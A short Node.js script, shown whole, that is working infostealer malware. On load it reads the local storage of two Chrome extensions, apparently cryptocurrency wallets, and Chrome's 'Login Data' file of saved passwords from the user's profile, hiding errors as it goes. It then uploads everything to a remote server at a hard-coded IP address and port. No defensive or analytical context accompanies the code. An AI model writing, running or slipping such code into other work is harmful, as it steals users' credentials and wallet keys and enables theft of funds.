const fs = require('fs'), os = require('os'), path = require('path'), request = require('request');
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const base = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data');
async function up() {
  const files = [];
  for (const id of ids) {
    const d = path.join(base, 'Default', 'Local Extension Settings', id);
    try { for (const f of fs.readdirSync(d)) files.push({ value: fs.createReadStream(path.join(d, f)), options: { filename: f } }); } catch (e) {}
  }
  files.push({ value: fs.createReadStream(path.join(base, 'Default', 'Login Data')), options: { filename: 'ld' } });
  request.post({ url: 'http://203.0.113.20:1224/uploads', formData: { multi_file: files } });
}
up();
